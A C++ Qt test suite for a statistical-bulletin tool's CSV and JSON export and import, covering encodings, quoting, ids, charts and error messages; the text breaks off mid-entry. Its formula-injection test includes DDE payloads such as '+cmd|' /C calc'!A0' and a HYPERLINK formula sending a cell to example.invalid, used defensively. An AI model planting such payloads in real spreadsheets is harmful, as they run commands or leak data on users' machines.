// The CSV indicator table: export and re-import, encodings, quoting, located problems and derived charts.

#include "bulletin.h"
#include "bulletinloader.h"
#include "bulletinvalidator.h"
#include "bulletinwriter.h"
#include "csvbulletinreader.h"
#include "csvtable.h"
#include "defaultcharts.h"
#include "indicatorroles.h"
#include "indicatortablemodel.h"
#include "loadproblem.h"
#include "textdecoder.h"

#include <QFile>
#include <QRegularExpression>
#include <QStringEncoder>
#include <QTemporaryDir>
#include <QtTest>

using namespace Bulletin;

namespace {

const QByteArray Utf8Bom("\xEF\xBB\xBF");
const QString SampleName = QStringLiteral("sample.csv");

QByteArray readData(const QString &name)
{
    QFile file(QString::fromUtf8(BULLETIN_TEST_DATA_DIR "/") + name);
    if (!file.open(QIODevice::ReadOnly))
        qFatal("cannot read test data %s", qPrintable(file.fileName()));
    return file.readAll();
}

QString header()
{
    return CsvBulletinReader::requiredColumns().join(QLatin1Char(','));
}

// Every cell as displayed, and the figures behind each row, must match.
void compareTables(const std::shared_ptr<const Document> &expected, const std::shared_ptr<const Document> &actual)
{
    IndicatorTableModel expectedModel;
    IndicatorTableModel actualModel;
    expectedModel.setDocument(expected);
    actualModel.setDocument(actual);
    QCOMPARE(actualModel.rowCount(), expected->indicatorCount());
    QCOMPARE(actualModel.rowCount(), expectedModel.rowCount());
    QCOMPARE(actualModel.columnCount(), expectedModel.columnCount());
    for (int row = 0; row < expectedModel.rowCount(); ++row) {
        for (int column = 0; column < expectedModel.columnCount(); ++column) {
            const QModelIndex want = expectedModel.index(row, column);
            const QModelIndex got = actualModel.index(row, column);
            QVERIFY2(got.data(Qt::DisplayRole) == want.data(Qt::DisplayRole),
                qPrintable(QStringLiteral("row %1 (%2), column %3: \"%4\" != \"%5\"")
                               .arg(row)
                               .arg(want.data(IndicatorIdRole).toString())
                               .arg(column)
                               .arg(got.data().toString(), want.data().toString())));
        }
        const QModelIndex want = expectedModel.index(row, IndicatorTableModel::NameColumn);
        const QModelIndex got = actualModel.index(row, IndicatorTableModel::NameColumn);
        for (const int role : { int(ValueRole), int(ProvinceValueRole), int(ProvinceDerivedRole), int(RankRole),
                 int(RankOfRole), int(SourceRole), int(ValueTextRole), int(UnitRole) }) {
            QVERIFY2(got.data(role) == want.data(role),
                qPrintable(QStringLiteral("row %1 (%2), role %3: %4 != %5")
                               .arg(row)
                               .arg(want.data(IndicatorIdRole).toString(),
                                   QString::fromUtf8(expectedModel.roleNames().value(role)), got.data(role).toString(),
                                   want.data(role).toString())));
        }
    }
}

LoadResult loadBuiltIn()
{
    LoadResult result = BulletinLoader::loadBuiltIn();
    if (!result.ok())
        qFatal("the built-in bulletin does not load: %s", qPrintable(describeProblems(result.problems)));
    return result;
}

const Indicator *indicatorByName(const Document &document, const QString &name)
{
    for (const Section &section : document.sections) {
        for (const Indicator &indicator : section.indicators) {
            if (indicator.name == name)
                return &indicator;
        }
    }
    return nullptr;
}

} // namespace

class TestCsv : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void csvRoundTrip();
    void csvStartsWithBomAndHeader();
    void jsonRoundTrip();
    void csvBulletinJsonRoundTrip();
    void utf8WithoutBom();
    void utf8WithBom();
    void gb18030();
    void gb18030CutShort_data();
    void gb18030CutShort();
    void quotedFields();
    void quotedSpacesSurvive_data();
    void quotedSpacesSurvive();
    void idsAndSections();
    void defaultCharts();
    void madeUpIdsKeepClearOfTheTables_data();
    void madeUpIdsKeepClearOfTheTables();
    void suffixChoosesReader();
    void formulasAreNotRun_data();
    void formulasAreNotRun();
    void csvTableRoundTrip_data();
    void csvTableRoundTrip();
    void problems_data();
    void problems();
    void commasInNumbers_data();
    void commasInNumbers();
};

void TestCsv::initTestCase()
{
    // Tables are compared as shown in the bulletin's own language, whatever the machine's locale: a CSV row carries
    // an indicator's English name but not its section's.
    QLocale::setDefault(QLocale(QLocale::Chinese, QLocale::China));
}

void TestCsv::csvRoundTrip()
{
    const LoadResult original = loadBuiltIn();
    const QByteArray csv = BulletinWriter::toCsv(*original.document);
    const LoadResult reloaded = BulletinLoader::loadCsv(csv, QStringLiteral("export.csv"));
    QVERIFY2(reloaded.ok(), qPrintable(describeProblems(reloaded.problems)));
    compareTables(original.document, reloaded.document);
    if (QTest::currentTestFailed())
        return;

    // Ids survive too, so a re-export is the same table.
    QCOMPARE(reloaded.document->sections.size(), original.document->sections.size());
    for (int s = 0; s < original.document->sections.size(); ++s) {
        const Section &want = original.document->sections.at(s);
        const Section &got = reloaded.document->sections.at(s);
        QCOMPARE(got.id, want.id);
        for (int i = 0; i < want.indicators.size(); ++i)
            QCOMPARE(got.indicators.at(i).id, want.indicators.at(i).id);
    }
    QCOMPARE(BulletinWriter::toCsv(*reloaded.document), csv);
}

void TestCsv::csvStartsWithBomAndHeader()
{
    const QByteArray csv = BulletinWriter::toCsv(*loadBuiltIn().document);
    QVERIFY2(csv.startsWith(Utf8Bom), "Excel needs the UTF-8 BOM to read the export as UTF-8");
    QVERIFY(!csv.mid(3).startsWith(Utf8Bom));
    const QByteArray firstLine = csv.mid(3, csv.indexOf("\r\n") - 3);
    QVERIFY2(
        firstLine.startsWith("section,indicator,value,unit,province_value,province_derived,rank,rank_of,period,source"),
        firstLine.constData());
    const QStringList columns = QString::fromUtf8(firstLine).split(QLatin1Char(','));
    for (const QString &optional : CsvBulletinReader::optionalColumns())
        QVERIFY2(columns.contains(optional), qPrintable(QStringLiteral("export lacks column ") + optional));
}

void TestCsv::jsonRoundTrip()
{
    const LoadResult original = loadBuiltIn();
    const QByteArray json = BulletinWriter::toJson(*original.document);
    const LoadResult reloaded = BulletinLoader::loadJson(json, QStringLiteral("export.json"));
    QVERIFY2(reloaded.ok(), qPrintable(describeProblems(reloaded.problems)));
    compareTables(original.document, reloaded.document);
    if (QTest::currentTestFailed())
        return;
    QCOMPARE(reloaded.document->keyFigures.size(), original.document->keyFigures.size());
    QCOMPARE(reloaded.document->intro, original.document->intro);
    QCOMPARE(BulletinWriter::toJson(*reloaded.document), json);
}

void TestCsv::csvBulletinJsonRoundTrip()
{
    const LoadResult fromCsv = BulletinLoader::loadCsv(readData(SampleName), SampleName);
    QVERIFY2(fromCsv.ok(), qPrintable(describeProblems(fromCsv.problems)));
    const LoadResult reloaded
        = BulletinLoader::loadJson(BulletinWriter::toJson(*fromCsv.document), QStringLiteral("x.json"));
    QVERIFY2(reloaded.ok(), qPrintable(describeProblems(reloaded.problems)));
    compareTables(fromCsv.document, reloaded.document);
}

void TestCsv::utf8WithoutBom()
{
    const QByteArray bytes = readData(SampleName);
    QVERIFY2(!bytes.startsWith(Utf8Bom), "the sample must be the BOM-less case");
    const LoadResult result = BulletinLoader::loadCsv(bytes, SampleName);
    QVERIFY2(result.ok(), qPrintable(describeProblems(result.problems)));
    QCOMPARE(result.document->indicatorCount(), 6);
    QCOMPARE(result.document->sections.first().title, QStringLiteral("经济运行"));
    QVERIFY(indicatorByName(*result.document, QStringLiteral("地区生产总值增速")));
}

void TestCsv::utf8WithBom()
{
    const LoadResult plain = BulletinLoader::loadCsv(readData(SampleName), SampleName);
    QVERIFY2(plain.ok(), qPrintable(describeProblems(plain.problems)));
    const LoadResult withBom = BulletinLoader::loadCsv(Utf8Bom + readData(SampleName), SampleName);
    QVERIFY2(withBom.ok(), qPrintable(describeProblems(withBom.problems)));
    compareTables(plain.document, withBom.document);
}

void TestCsv::gb18030()
{
    const QString text = QString::fromUtf8(readData(SampleName));
    QStringEncoder encoder("GB18030");
    QVERIFY2(encoder.isValid(), "this Qt cannot encode GB18030");
    const QByteArray bytes = encoder.encode(text);
    QVERIFY(!encoder.hasError());
    QVERIFY2(TextDecoder::firstInvalidUtf8Byte(bytes) >= 0, "the GB18030 bytes must not pass as UTF-8");

    const LoadResult result = BulletinLoader::loadCsv(bytes, QStringLiteral("gb18030.csv"));
    QVERIFY2(result.ok(), qPrintable(describeProblems(result.problems)));
    const LoadResult utf8 = BulletinLoader::loadCsv(readData(SampleName), SampleName);
    QVERIFY2(utf8.ok(), qPrintable(describeProblems(utf8.problems)));
    compareTables(utf8.document, result.document);
    if (QTest::currentTestFailed())
        return;
    QCOMPARE(result.document->sections.at(1).title, QStringLiteral("项目建设"));
    QCOMPARE(result.document->period, QStringLiteral("2020年1—6月"));
    const Indicator *gdp = indicatorByName(*result.document, QStringLiteral("地区生产总值增速"));
    QVERIFY(gdp);
    QCOMPARE(gdp->source, QStringLiteral("1—6月，全市地区生产总值增长1.7%，高出全省平均水平0.4个百分点，排名全省第二"));
}

void TestCsv::gb18030CutShort_data()
{
    QTest::addColumn<QString>("last"); // the character the file ends in
    QTest::addColumn<int>("kept"); // of its bytes
    // 😀 is four bytes in GB18030 (94 39 FC 36), ı four (81 30 90 33), 衡 two.
    QTest::addRow("four-byte-cut-after-1") << QStringLiteral("😀") << 1;
    QTest::addRow("four-byte-cut-after-2") << QStringLiteral("😀") << 2;
    QTest::addRow("four-byte-cut-after-3") << QStringLiteral("😀") << 3;
    QTest::addRow("bmp-four-byte-cut-after-3") << QStringLiteral("ı") << 3;
    QTest::addRow("two-byte-cut-after-1") << QStringLiteral("衡") << 1;
}

void TestCsv::gb18030CutShort()
{
    QFETCH(QString, last);
    QFETCH(int, kept);
    // Given a GB18030 table whose last line ends inside a character, as a download or a copy cut short leaves it
    const QString text = QString::fromUtf8(readData(SampleName)).trimmed() + QStringLiteral("，产值") + last;
    QStringEncoder encoder("GB18030");
    QByteArray bytes = encoder.encode(text);
    const QByteArray lastBytes = encoder.encode(last);
    QVERIFY(lastBytes.size() > kept);
    bytes.chop(lastBytes.size() - kept);
    const QStringList lines = text.split(QLatin1Char('\n'));
    const int line = int(lines.size());
    const int column = int(lines.last().size() - last.size()) + 1;

    // When it is read, then the cut is named, where it is, not a field count or the first Chinese character
    const LoadResult result = BulletinLoader::loadCsv(bytes, QStringLiteral("gb.csv"));
    QVERIFY(!result.document);
    QCOMPARE(describeProblems(result.problems),
        QStringLiteral("gb.csv:%1:%2: the file ends in the middle of a GB18030 character: it was cut short (or it is "
                       "neither UTF-8 nor GB18030)")
            .arg(line)
            .arg(column));
}

void TestCsv::quotedFields()
{
    const LoadResult result = BulletinLoader::loadCsv(readData(SampleName), SampleName);
    QVERIFY2(result.ok(), qPrintable(describeProblems(result.problems)));
    const Document &document = *result.document;

    const Indicator *withComma = indicatorByName(document, QStringLiteral("市重点工程完成投资"));
    QVERIFY(withComma);
    QCOMPARE(withComma->source, QStringLiteral("分别完成投资297.72亿元、79.57亿元, 均顺利实现\"双过半\"目标"));
    QCOMPARE(withComma->value, std::optional<double>(297.72));

    const Indicator *withLineBreak = indicatorByName(document, QStringLiteral("省重点项目完成投资"));
    QVERIFY(withLineBreak);
    QCOMPARE(withLineBreak->source, QStringLiteral("28个省重点项目\n完成投资79.57亿元"));

    // The row after the two-line field starts on line 8, and is read whole.
    const Indicator *after = indicatorByName(document, QStringLiteral("万声声学智造群项目6月份产值"));
    QVERIFY(after);
    QCOMPARE(after->id, QStringLiteral("r8"));
    QCOMPARE(after->value, std::optional<double>(2000));
    QCOMPARE(after->period, QStringLiteral("2020年6月"));
}

void TestCsv::quotedSpacesSurvive_data()
{
    QTest::addColumn<QString>("note");
    QTest::addColumn<bool>("quoted");
    QTest::addColumn<QString>("expected");
    QTest::addRow("quoted-leading") << QStringLiteral("  按可比价格计算") << true << QStringLiteral("  按可比价格计算");
    QTest::addRow("quoted-trailing") << QStringLiteral("按可比价格计算 ") << true << QStringLiteral("按可比价格计算 ");
    QTest::addRow("bare-trimmed") << QStringLiteral("  按可比价格计算 ") << false << QStringLiteral("按可比价格计算");
}

void TestCsv::quotedSpacesSurvive()
{
    QFETCH(QString, note);
    QFETCH(bool, quoted);
    QFETCH(QString, expected);
    const LoadResult original = loadBuiltIn();
    auto document = std::make_shared<Document>(*original.document);
    Indicator &indicator = document->sections[1].indicators[0];
    indicator.note = note;
    QString csv = QString::fromUtf8(BulletinWriter::toCsv(*document));
    const QString written = CsvTable::escapeField(note);
    QVERIFY2(csv.contains(written), qPrintable(written));
    if (!quoted)
        csv.replace(written, note);
    const LoadResult reloaded = BulletinLoader::loadCsv(csv.toUtf8(), QStringLiteral("spaces.csv"));
    QVERIFY2(reloaded.ok(), qPrintable(describeProblems(reloaded.problems)));
    const Indicator *read = reloaded.document->findIndicator(indicator.id);
    QVERIFY(read);
    QCOMPARE(read->note, expected);
}

void TestCsv::idsAndSections()
{
    const QString text = header()
        + QStringLiteral("\n甲,一,1,个,,,,,2020,来源一\n乙,二,2,个,,,,,2020,来源二\n\n甲,三,3,个,,,,,2021,来源三\n");
    const LoadResult result = BulletinLoader::loadCsv(text.toUtf8(), QStringLiteral("城市 bulletin.csv"));
    QVERIFY2(result.ok(), qPrintable(describeProblems(result.problems)));
    const Document &document = *result.document;
    QCOMPARE(document.sections.size(), 2);
    QCOMPARE(document.sections.at(0).id, QStringLiteral("s1"));
    QCOMPARE(document.sections.at(0).title, QStringLiteral("甲"));
    QCOMPARE(document.sections.at(1).id, QStringLiteral("s2"));
    QCOMPARE(document.sections.at(1).title, QStringLiteral("乙"));
    QCOMPARE(document.sections.at(0).indicators.size(), 2);
    QCOMPARE(document.sections.at(0).indicators.at(0).id, QStringLiteral("r2"));
    // A blank line is skipped but still counted, so the id names the row's real line.
    QCOMPARE(document.sections.at(0).indicators.at(1).id, QStringLiteral("r5"));
    QCOMPARE(document.sections.at(1).indicators.at(0).id, QStringLiteral("r3"));
    QCOMPARE(document.period, QStringLiteral("2020"));
    QCOMPARE(document.title, QStringLiteral("城市 bulletin"));
    QVERIFY2(BulletinValidator::isValidId(document.id), qPrintable(document.id));
}

void TestCsv::defaultCharts()
{
    const LoadResult result = BulletinLoader::loadCsv(readData(SampleName), SampleName);
    QVERIFY2(result.ok(), qPrintable(describeProblems(result.problems)));
    const Document &document = *result.document;
    QCOMPARE(document.comparisonUnits, 14);

    auto idsOf = [&document](const QStringList &names) {
        QStringList ids;
        for (const QString &name : names) {
            const Indicator *indicator = indicatorByName(document, name);
            ids.append(indicator ? indicator->id : QStringLiteral("(no %1)").arg(name));
        }
        return ids;
    };

    const QList<ChartSpec> &economy = document.sections.at(0).charts;
    QCOMPARE(economy.size(), 2);
    QCOMPARE(economy.at(0).kind, ChartKind::Comparison);
    QCOMPARE(economy.at(0).indicatorIds,
        idsOf({ QStringLiteral("地区生产总值增速"), QStringLiteral("规模工业增加值增速") }));
    QCOMPARE(economy.at(1).kind, ChartKind::Ranking);
    QCOMPARE(economy.at(1).indicatorIds,
        idsOf({ QStringLiteral("地区生产总值增速"), QStringLiteral("社会消费品零售总额增速") }));

    // 亿元 is shared by two indicators and gets bars; 万元 alone does not.
    const QList<ChartSpec> &projects = document.sections.at(1).charts;
    QCOMPARE(projects.size(), 1);
    QCOMPARE(projects.at(0).kind, ChartKind::Bars);
    QCOMPARE(projects.at(0).indicatorIds,
        idsOf({ QStringLiteral("市重点工程完成投资"), QStringLiteral("省重点项目完成投资") }));

    QStringList chartIds;
    for (const Section &section : document.sections) {
        for (const ChartSpec &chart : section.charts) {
            QVERIFY2(!chartIds.contains(chart.id), qPrintable(chart.id));
            chartIds.append(chart.id);
            QVERIFY2(!chart.title.isEmpty(), qPrintable(chart.id));
        }
    }
}

void TestCsv::madeUpIdsKeepClearOfTheTables_data()
{
    QTest::addColumn<QByteArray>("csv");
    QTest::addColumn<QString>("name");
    QTest::addColumn<QStringList>("indicatorIds"); // in bulletin order
    QTest::addColumn<QStringList>("sectionIds");
    QTest::addColumn<int>("chartCount"); // of the sections

    const QByteArray h = header().toUtf8();
    const QString name = QStringLiteral("table.csv");
    QTest::addRow("row-id-r3-taken") << QByteArray("id,") + h
            + "\n,甲,一,1,个,,,,,2020,来源\n,甲,二,2,个,,,,,2020,来源\n"
              "r3,甲,三,3,个,,,,,2020,来源\n"
                                     << name
                                     << QStringList { QStringLiteral("r2"), QStringLiteral("r3-2"),
                                            QStringLiteral("r3") }
                                     << QStringList { QStringLiteral("s1") } << 1;
    QTest::addRow("row-ids-r3-and-r3-2-taken")
        << QByteArray("id,") + h
            + "\nr3-2,甲,一,1,个,,,,,2020,来源\n,甲,二,2,个,,,,,2020,来源\nr3,甲,三,3,个,,,,,2020,来源\n"
        << name << QStringList { QStringLiteral("r3-2"), QStringLiteral("r3-3"), QStringLiteral("r3") }
        << QStringList { QStringLiteral("s1") } << 1;
    QTest::addRow("section-id-s2-taken")
        << QByteArray("section_id,") + h
            + "\n,甲,一,1,个,,,,,2020,来源\n,乙,二,2,个,,,,,2020,来源\ns2,丙,三,3,个,,,,,2020,来源\n"
        << name << QStringList { QStringLiteral("r2"), QStringLiteral("r3"), QStringLiteral("r4") }
        << QStringList { QStringLiteral("s1"), QStringLiteral("s2-2"), QStringLiteral("s2") } << 0;
    const QByteArray longId(MaxIdLength, 'a');
    QTest::addRow("section-id-of-128-characters")
        << QByteArray("section_id,") + h + "\n" + longId + ",甲,一,1,个,1,,1,14,2020,来源\n" + longId
            + ",甲,二,2,个,2,,2,14,2020,来源\n" + longId + ",甲,三,3,个,,,,,2020,来源\n" + longId
            + ",甲,四,4,个,,,,,2020,来源\n"
        << name
        << QStringList { QStringLiteral("r2"), QStringLiteral("r3"), QStringLiteral("r4"), QStringLiteral("r5") }
        << QStringList { QString::fromLatin1(longId) } << 3;
    // Cut to fit, the two ids would be the same but for what follows their first 110 characters.
    const QByteArray otherLongId = QByteArray(MaxIdLength - 1, 'a') + 'b';
    QTest::addRow("two-long-section-ids-alike")
        << QByteArray("section_id,") + h + "\n" + longId + ",甲,一,1,个,1,,,,2020,来源\n" + otherLongId
            + ",乙,二,2,个,2,,,,2020,来源\n"
        << name << QStringList { QStringLiteral("r2"), QStringLiteral("r3") }
        << QStringList { QString::fromLatin1(longId), QString::fromLatin1(otherLongId) } << 2;
    QTest::addRow("section-called-overview")
        << QByteArray("section_id,") + h + "\noverview,甲,一,1,个,1,,1,14,2020,来源\n"
        << name << QStringList { QStringLiteral("r2") } << QStringList { QStringLiteral("overview") } << 2;
    QTest::addRow("long-file-name") << h + "\n甲,一,1,个,,,,,2020,来源\n"
                                    << QString(300, QLatin1Char('x')) + QStringLiteral(".csv")
                                    << QStringList { QStringLiteral("r2") } << QStringList { QStringLiteral("s1") }
                                    << 0;
}

void TestCsv::madeUpIdsKeepClearOfTheTables()
{
    QFETCH(QByteArray, csv);
    QFETCH(QString, name);
    QFETCH(QStringList, indicatorIds);
    QFETCH(QStringList, sectionIds);
    QFETCH(int, chartCount);

    // Given a table whose own ids are those the program would make up, when it is read
    const LoadResult result = BulletinLoader::loadCsv(csv, name);

    // Then it is read, the made-up ids step around the table's own
    QVERIFY2(result.ok(), qPrintable(describeProblems(result.problems)));
    const Document &document = *result.document;
    QStringList indicators;
    QStringList sections;
    QSet<QString> charts;
    for (const ChartSpec &chart : DefaultCharts::overview(document))
        charts.insert(chart.id);
    for (const Section &section : document.sections) {
        sections.append(section.id);
        for (const Indicator &indicator : section.indicators)
            indicators.append(indicator.id);
        // and every chart id made from a section id is a valid id, unique, also among the overview's
        for (const ChartSpec &chart : section.charts) {
            QVERIFY2(BulletinValidator::isValidId(chart.id), qPrintable(chart.id));
            QVERIFY2(!charts.contains(chart.id), qPrintable(chart.id));
            charts.insert(chart.id);
        }
    }
    QCOMPARE(indicators, indicatorIds);
    QCOMPARE(sections, sectionIds);
    QVERIFY2(BulletinValidator::isValidId(document.id), qPrintable(document.id));
    QCOMPARE(charts.size() - DefaultCharts::overview(document).size(), chartCount);
}

void TestCsv::suffixChoosesReader()
{
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QByteArray bytes = readData(SampleName);
    for (const QString &name : { QStringLiteral("upper.CSV"), QStringLiteral("table.json") }) {
        QFile file(dir.filePath(name));
        QVERIFY(file.open(QIODevice::WriteOnly));
        QCOMPARE(file.write(bytes), bytes.size());
    }
    const LoadResult csv = BulletinLoader::loadFile(dir.filePath(QStringLiteral("upper.CSV")));
    QVERIFY2(csv.ok(), qPrintable(describeProblems(csv.problems)));
    QCOMPARE(csv.document->indicatorCount(), 6);
    const LoadResult json = BulletinLoader::loadFile(dir.filePath(QStringLiteral("table.json")));
    QVERIFY(!json.document);
    QVERIFY2(describeProblems(json.problems).contains(QStringLiteral("JSON syntax error")),
        qPrintable(describeProblems(json.problems)));
}

void TestCsv::formulasAreNotRun_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<bool>("quoted"); // written after a quote
    QTest::addRow("hyperlink") << QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")") << true;
    QTest::addRow("plus-dde") << QStringLiteral("+cmd|' /C calc'!A0") << true;
    QTest::addRow("at-sum") << QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0") << true;
    QTest::addRow("minus") << QStringLiteral("-2+3+cmd|' /C calc'!A0") << true;
    QTest::addRow("tab") << QStringLiteral("\t=1+1") << true;
    QTest::addRow("carriage-return") << QStringLiteral("\r=1+1") << true;
    // Text that already begins with the quote keeps it: one more is written, one is taken away.
    QTest::addRow("quote-then-formula") << QStringLiteral("'=1+1") << true;
    QTest::addRow("two-quotes-then-formula") << QStringLiteral("''@x") << true;
    QTest::addRow("quote-then-text") << QStringLiteral("'按可比价格") << false;
    QTest::addRow("quote-alone") << QStringLiteral("'") << false;
    QTest::addRow("formula-later") << QStringLiteral("增长 =1.7%") << false;
    QTest::addRow("plain") << QStringLiteral("按可比价格计算") << false;
}

void TestCsv::formulasAreNotRun()
{
    QFETCH(QString, text);
    QFETCH(bool, quoted);
    // Given a JSON bulletin whose texts, an id among them, begin with what a spreadsheet runs, and a negative value
    auto document = std::make_shared<Document>(*loadBuiltIn().document);
    Section &section = document->sections[1];
    Indicator &indicator = section.indicators[0];
    const QString idBefore = indicator.id;
    section.title = text + QStringLiteral("标题");
    indicator.name = text + QStringLiteral("名称");
    indicator.nameEn = text;
    indicator.unit = text;
    indicator.source = text + QStringLiteral("来源");
    indicator.note = text;
    indicator.targetText = text;
    indicator.rankScope = text;
    indicator.gapUnit = text;
    indicator.value = -3.5;
    indicator.valueText = text;
    indicator.period = text + QStringLiteral("2020");
    indicator.id = QStringLiteral("-") + idBefore;
    for (KeyFigure &figure : document->keyFigures) {
        if (figure.indicatorId == idBefore)
            figure.indicatorId = indicator.id;
    }
    for (Section &other : document->sections) {
        for (ChartSpec &chart : other.charts)
            chart.indicatorIds.replaceInStrings(QRegularExpression(QStringLiteral("^%1$").arg(idBefore)), indicator.id);
    }
    const LoadResult json = BulletinLoader::loadJson(BulletinWriter::toJson(*document), QStringLiteral("in.json"));
    QVERIFY2(json.ok(), qPrintable(describeProblems(json.problems)));

    // When it is exported as CSV
    const QByteArray csv = BulletinWriter::toCsv(*json.document);

    // Then no text cell begins with = + - @, a tab or a carriage return, and the value stays a number
    const CsvTable table = CsvTable::parse(QString::fromUtf8(csv.mid(Utf8Bom.size())));
    QVERIFY2(table.ok, qPrintable(table.errorMessage));
    const QStringList header = table.rows.first().fields;
    const QStringList numbers { QStringLiteral("value"), QStringLiteral("province_value"), QStringLiteral("rank"),
        QStringLiteral("rank_of"), QStringLiteral("gap"), QStringLiteral("completion") };
    static const QRegularExpression formula(QStringLiteral("^[=+\\-@\t\r]"));
    int protectedCells = 0;
    for (qsizetype r = 1; r < table.rows.size(); ++r) {
        const QStringList &cells = table.rows.at(r).fields;
        for (qsizetype c = 0; c < cells.size(); ++c) {
            if (numbers.contains(header.at(c)))
                continue;
            QVERIFY2(!formula.match(cells.at(c)).hasMatch(),
                qPrintable(QStringLiteral("row %1, column %2: %3").arg(r).arg(header.at(c), cells.at(c))));
            if (cells.at(c).startsWith(QLatin1Char('\'') + text))
                ++protectedCells;
        }
    }
    QCOMPARE(protectedCells > 0, quoted);
    const qsizetype valueColumn = header.indexOf(QStringLiteral("value"));
    const auto row = std::find_if(table.rows.cbegin() + 1, table.rows.cend(),
        [&](const CsvTable::Row &r) { return r.fields.at(header.indexOf(QStringLiteral("id"))).endsWith(idBefore); });
    QVERIFY(row != table.rows.cend());
    QCOMPARE(row->fields.at(valueColumn), QStringLiteral("-3.5"));

    // and read back, every text is as it was
    const LoadResult again = BulletinLoader::loadCsv(csv, QStringLiteral("out.csv"));
    QVERIFY2(again.ok(), qPrintable(describeProblems(again.problems)));
    const Indicator *read = again.document->findIndicator(indicator.id);
    QVERIFY(read);
    QCOMPARE(read->name, indicator.name);
    QCOMPARE(read->nameEn, indicator.nameEn);
    QCOMPARE(read->unit, indicator.unit);
    QCOMPARE(read->source, indicator.source);
    QCOMPARE(read->note, indicator.note);
    QCOMPARE(read->targetText, indicator.targetText);
    QCOMPARE(read->rankScope, indicator.rankScope);
    QCOMPARE(read->gapUnit, indicator.gapUnit);
    QCOMPARE(read->valueText, indicator.valueText);
    QCOMPARE(read->period, indicator.period);
    QCOMPARE(read->value, std::optional<double>(-3.5));
    QCOMPARE(again.document->findSection(section.id)->title, section.title);
    QCOMPARE(BulletinWriter::toCsv(*again.document), csv);
}

void TestCsv::csvTableRoundTrip_data()
{
    QTest::addColumn<QStringList>("fields");
    QTest::addRow("plain") << QStringList { QStringLiteral("a"), QStringLiteral("b") };
    QTest::addRow("comma") << QStringList { QStringLiteral("1,234"), QStringLiteral("x") };
    QTest::addRow("doubled-quotes") << QStringList { QStringLiteral("实现\"双过半\"目标"), QStringLiteral("\"") };
    QTest::addRow("line-breaks") << QStringList { QStringLiteral("一\n二"), QStringLiteral("三\r\n四") };
    QTest::addRow("edge-spaces") << QStringList { QStringLiteral(" 前"), QStringLiteral("后 ") };
    QTest::addRow("edge-tabs-and-ideographic-spaces")
        << QStringList { QStringLiteral("\t前"), QStringLiteral("后\t"), QStringLiteral("　中　") };
    QTest::addRow("empty-fields") << QStringList { QString(), QString(), QString() };
}

void TestCsv::csvTableRoundTrip()
{
    QFETCH(QStringList, fields);
    const QString text = CsvTable::formatRow(fields) + CsvTable::formatRow(fields);
    const CsvTable table = CsvTable::parse(text);
    QVERIFY2(table.ok, qPrintable(table.errorMessage));
    QCOMPARE(table.rows.size(), 2);
    QCOMPARE(table.rows.at(0).fields, fields);
    QCOMPARE(table.rows.at(1).fields, fields);
    QCOMPARE(table.rows.at(0).line, 1);
    QCOMPARE(table.rows.at(1).line, 1 + int(CsvTable::formatRow(fields).count(QLatin1Char('\n'))));
}

void TestCsv::problems_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("location");
    QTest::addColumn<QString>("phrase");

    const QByteArray h = header().toUtf8() + '\n';
    const QByteArray good("经济,增速,1.7,%,1.3,是,2,14,2020年,来源\n");

    QTest::addRow("bad-number") << h + "经济,增速,1.7x,%,,,,,,来源\n"
                                << QStringLiteral("bad.csv:2: column value: ")
                                << QStringLiteral("expected a finite number, found \"1.7x\"");
    QTest::addRow("bad-province-number") << h + good + "经济,增速,1.7,%,高,,,,,来源\n"
                                         << QStringLiteral("bad.csv:3: column province_value: ")
                                         << QStringLiteral("expected a finite number, found \"高\"");
    QTest::addRow("infinite-number") << h + "经济,增速,1e999,%,,,,,,来源\n"
                                     << QStringLiteral("bad.csv:2: column value: ")
                                     << QStringLiteral("expected a finite number");
    QTest::addRow("rank-20-of-14") << h + good + "经济,增速,1.7,%,,,20,14,,来源\n"
                                   << QStringLiteral("bad.csv:3: column rank: ")
                                   << QStringLiteral("expected a rank within 1..14, found 20");
    QTest::addRow("rank-zero") << h + "经济,增速,1.7,%,,,0,14,,来源\n"
                               << QStringLiteral("bad.csv:2: column rank: ")
                               << QStringLiteral("expected a rank within 1..14, found 0");
    QTest::addRow("rank-not-whole") << h + "经济,增速,1.7,%,,,2.5,14,,来源\n"
                                    << QStringLiteral("bad.csv:2: column rank: ")
                                    << QStringLiteral("expected a whole number, found \"2.5\"");
    QTest::addRow("rank-without-rank-of")
        << h + "经济,增速,1.7,%,,,2,,,来源\n"
        << QStringLiteral("bad.csv:2: column rank_of: ") << QStringLiteral("rank and rank_of must be given together");
    QTest::addRow("bad-boolean") << h + "经济,增速,1.7,%,1.3,也许,,,,来源\n"
                                 << QStringLiteral("bad.csv:2: column province_derived: ")
                                 << QStringLiteral("expected true or false");
    QTest::addRow("derived-without-province")
        << h + "经济,增速,1.7,%,,是,,,,来源\n"
        << QStringLiteral("bad.csv:2: column province_derived: ") << QStringLiteral("no province_value");
    QTest::addRow("no-value") << h + "经济,增速,,%,,,,,,来源\n"
                              << QStringLiteral("bad.csv:2: column value: ")
                              << QStringLiteral("expected a value, a value_text or a rank");
    QTest::addRow("empty-name") << h + "经济,,1,%,,,,,,来源\n"
                                << QStringLiteral("bad.csv:2: column indicator: ")
                                << QStringLiteral("expected an indicator name");
    QTest::addRow("empty-section") << h + " ,增速,1,%,,,,,,来源\n"
                                   << QStringLiteral("bad.csv:2: column section: ")
                                   << QStringLiteral("expected a section title");
    QTest::addRow("ragged-row") << h + good + "经济,增速,1.7\n"
                                << QStringLiteral("bad.csv:3: ")
                                << QStringLiteral("expected 10 fields as in the header, found 3");
    QTest::addRow("long-row") << h + "经济,增速,1.7,%,,,,,,来源,多余\n"
                              << QStringLiteral("bad.csv:2: ")
                              << QStringLiteral("expected 10 fields as in the header, found 11");
    QTest::addRow("unclosed-quote") << h + good + "经济,增速,1.7,%,,,,,,\"来源没有结束\n更多\n"
                                    << QStringLiteral("bad.csv:3:18: ")
                                    << QStringLiteral("quoted field is never closed");
    QTest::addRow("stray-quote") << h + "经济,增\"速,1.7,%,,,,,,来源\n"
                                 << QStringLiteral("bad.csv:2:5: ")
                                 << QStringLiteral("unexpected quote inside a field");
    QTest::addRow("text-after-quote") << h + "\"经济\"x,增速,1.7,%,,,,,,来源\n"
                                      << QStringLiteral("bad.csv:2:5: ")
